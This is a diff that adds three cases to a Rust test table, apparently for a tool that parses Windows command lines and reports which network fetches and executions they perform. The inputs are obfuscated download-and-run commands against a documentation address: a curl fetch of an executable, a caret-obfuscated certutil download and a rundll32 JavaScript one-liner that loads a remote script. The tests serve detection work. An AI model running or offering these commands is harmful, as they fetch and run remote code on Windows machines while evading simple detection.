@@ -294,4 +294,26 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
             "run http://192.0.2.7/a",
         ],
     ),
+    (
+        "title behind a switch",
+        r#"start /b "" C:\Windows\System32\curl.exe http://192.0.2.7/a.exe"#,
+        &["fetch http://192.0.2.7/a.exe"],
+    ),
+    (
+        "separators of a command",
+        r#",;,C^Md.e^xe,;,/^C,;,(("cert"util -url""cache -f http://192.0.2.7/a.exe C:\a.exe))"#,
+        &[
+            r#"run CMd.exe /C,;,(("cert"util -url""cache -f http://192.0.2.7/a.exe C:\a.exe))"#,
+            "evaluate batch",
+            r"fetch http://192.0.2.7/a.exe to C:\a.exe",
+        ],
+    ),
+    (
+        "a script of rundll32 is not a URL",
+        r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.7/a").Exec();"#,
+        &[
+            r#"run rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.7/a").Exec();"#,
+            "evaluate javascript",
+        ],
+    ),
 ];
